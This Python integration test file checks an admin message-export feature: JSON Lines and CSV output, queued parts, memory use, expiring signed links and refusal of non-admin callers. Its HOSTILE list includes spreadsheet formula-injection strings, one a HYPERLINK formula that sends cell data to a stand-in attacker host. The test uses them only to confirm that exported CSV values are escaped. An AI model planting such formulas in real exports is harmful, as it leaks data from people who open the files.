"""Message exports (issue 19, part 3): an admin exports a date range (or a search's matches) as JSON
Lines or CSV through queued steps, the file is downloaded through a signed link for a day, and
memory stays flat however many messages there are."""

from __future__ import annotations

import csv
import io
import json
import time
import tracemalloc

import pytest
import requests

from infra.local import demo
from shared import audit, exports, store
from shared.auth import Caller
from shared.errors import Forbidden
from shared.media import storage
from tests.dataprotection import seeding
from tests.support import LocalStack, agent_token, eventually

pytestmark = pytest.mark.integration

DEMO = demo.DEMO_TENANT
ADMIN = Caller(uid="admin-x", tenant_id=DEMO, role="admin", name="Ada Admin")
AGENT = Caller(uid="agent-x", tenant_id=DEMO, role="agent")
T0 = 1_767_225_600_000  # 2026-01-01T00:00:00Z

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    'a "quoted", comma\nand a second line\r\nand a third',
    "\ttabbed",
    "Ünïcödé ✓ 中文 עברית",
]


def finished(stack: LocalStack, export_id: str) -> dict:
    return eventually(
        lambda: (
            (store.get_export_job(DEMO, export_id) or {}).get("state") in ("done", "failed")
            and store.get_export_job(DEMO, export_id)
        ),
        timeout=120,
        what="the export to finish",
    )


def download(stack: LocalStack, token: str, export_id: str) -> requests.Response:
    link = seeding.call(stack, token, {"action": "export_link", "exportId": export_id})
    assert link.status_code == 200, link.text
    response = requests.get(link.json()["url"], timeout=30)
    assert response.status_code == 200, response.text
    return response


def test_an_admin_exports_a_range_as_json_lines_and_as_csv_with_hostile_text_escaped(
    clean_stack: LocalStack,
) -> None:
    conversation = seeding.conversation(DEMO, "15550009999")
    seeding.messages(DEMO, conversation, len(HOSTILE), start_ms=T0, text=lambda i: HOSTILE[i])
    seeding.messages(DEMO, conversation, 3, start_ms=T0 - 86_400_000)  # the day before: outside
    admin = agent_token(clean_stack, DEMO, "boss@export.test", role="admin", name="Boss")

    started = seeding.call(
        clean_stack,
        admin,
        {"action": "export_start", "fromMs": T0, "toMs": T0 + 3_600_000, "format": "jsonl"},
    )
    assert started.status_code == 200, started.text
    job = finished(clean_stack, started.json()["exportId"])
    assert job["state"] == "done" and job["count"] == len(HOSTILE)
    lines = download(clean_stack, admin, started.json()["exportId"]).content.decode().splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["text"] for r in records] == HOSTILE  # oldest first, exactly as stored
    assert records[0]["sentAt"] == "2026-01-01T00:00:00.000Z" and records[0]["conversationId"] == conversation
    assert all("terms" not in r and "raw" not in r for r in records)

    started = seeding.call(
        clean_stack, admin, {"action": "export_start", "fromMs": T0, "toMs": T0 + 3_600_000, "format": "csv"}
    )
    job = finished(clean_stack, started.json()["exportId"])
    response = download(clean_stack, admin, started.json()["exportId"])
    # Served as a download (never rendered by the browser), named for the range.
    assert response.headers.get("Content-Disposition", "").startswith("attachment")
    assert 'filename="messages-20260101-20260101.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0] == list(exports.CSV_COLUMNS)
    texts = [row[exports.CSV_COLUMNS.index("text")] for row in rows[1:]]
    assert texts == [
        "'" + HOSTILE[0],  # formulas never run in a spreadsheet
        "'+1 555 0100",
        "'-2+3",
        "'@SUM(A1:A9)",
        HOSTILE[4],  # quotes, commas and line breaks survive quoting
        "'\ttabbed",
        HOSTILE[6],
    ]
    assert [e["action"] for e in audit.entries(ADMIN, action="messages.export")] == ["messages.export"] * 2


def test_an_export_of_a_search_holds_only_the_matching_messages(clean_stack: LocalStack) -> None:
    conversation = seeding.conversation(DEMO, "15550008888")
    seeding.messages(
        DEMO,
        conversation,
        40,
        start_ms=T0,
        text=lambda i: f"parcel {i} arrived damaged" if i % 4 == 0 else f"hello {i}",
    )
    job = exports.start(ADMIN, T0, T0 + 3_600_000, "jsonl", "damaged parcel", queue=False)
    done = exports.run_inline(DEMO, job["id"])
    records = [json.loads(line) for line in storage.read(done["path"]).decode().splitlines()]
    assert [r["text"] for r in records] == [f"parcel {i} arrived damaged" for i in range(0, 40, 4)]


def test_a_long_export_runs_in_queued_parts_that_are_joined_in_order(clean_stack: LocalStack) -> None:
    conversation = seeding.conversation(DEMO, "15550007777")
    ids = seeding.messages(DEMO, conversation, 1_234, start_ms=T0, step_ms=10)
    job = exports.start(ADMIN, T0, T0 + 3_600_000, "csv", part_messages=400)  # queued, 400 a step
    done = finished(clean_stack, job["id"])
    assert done["state"] == "done" and done["count"] == 1_234 and done["parts"] == 3
    rows = list(csv.reader(io.StringIO(storage.read(done["path"]).decode(), newline="")))
    assert rows[0] == list(exports.CSV_COLUMNS)  # one header, at the top
    assert [row[0] for row in rows[1:]] == ids  # every message once, in time order
    assert [p for p, _ in storage.listed(f"exports/{DEMO}/{job['id']}/")] == [done["path"]]  # parts gone


def _peak_bytes(count: int, conversation: str, start_ms: int) -> int:
    job = exports.start(ADMIN, start_ms, start_ms + count * 10 + 1, "jsonl", queue=False)
    tracemalloc.start()
    try:
        done = exports.run_inline(DEMO, job["id"])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert done["count"] == count
    return peak


def test_memory_stays_flat_as_the_export_grows(clean_stack: LocalStack) -> None:
    conversation = seeding.conversation(DEMO, "15550006666")
    seeding.messages(DEMO, conversation, 1_000, start_ms=T0, step_ms=10, text=lambda i: "x" * 200)
    seeding.messages(
        DEMO, conversation, 5_000, start_ms=T0 + 86_400_000, step_ms=10, text=lambda i: "x" * 200
    )
    small = _peak_bytes(1_000, conversation, T0)
    large = _peak_bytes(5_000, conversation, T0 + 86_400_000)
    # 5 times the messages (about 1.3 MB more of output), the same working set: a page and a chunk.
    assert large < small * 1.3 + 256 * 1024, (small, large)


def test_links_expire_and_agents_are_refused(clean_stack: LocalStack) -> None:
    conversation = seeding.conversation(DEMO, "15550005555")
    seeding.messages(DEMO, conversation, 5, start_ms=T0)
    job = exports.run_inline(DEMO, exports.start(ADMIN, T0, T0 + 60_000, "jsonl", queue=False)["id"])
    short = storage.signed_download_url(job["path"], 1, content_type="application/x-ndjson")
    eventually(lambda: requests.get(short, timeout=10).status_code == 400, timeout=10, interval=0.5)

    export_id = store.list_export_jobs(DEMO)[0][0]
    store.update_export_job(DEMO, export_id, {"expiresAtMs": int(time.time() * 1000) - 1})
    admin = agent_token(clean_stack, DEMO, "boss2@export.test", role="admin")
    expired = seeding.call(clean_stack, admin, {"action": "export_link", "exportId": export_id})
    assert expired.status_code == 410 and expired.json()["error"]["code"] == "export_expired"

    agent = agent_token(clean_stack, DEMO, "worker@export.test")
    assert (
        seeding.call(clean_stack, agent, {"action": "export_link", "exportId": export_id}).status_code == 403
    )
    refused = seeding.call(clean_stack, agent, {"action": "export_start", "fromMs": T0, "toMs": T0 + 1})
    assert refused.status_code == 403
    with pytest.raises(Forbidden):
        exports.start(AGENT, T0, T0 + 1)
    bad = seeding.call(
        clean_stack, admin, {"action": "export_start", "fromMs": T0, "toMs": T0, "format": "csv"}
    )
    assert bad.status_code == 400
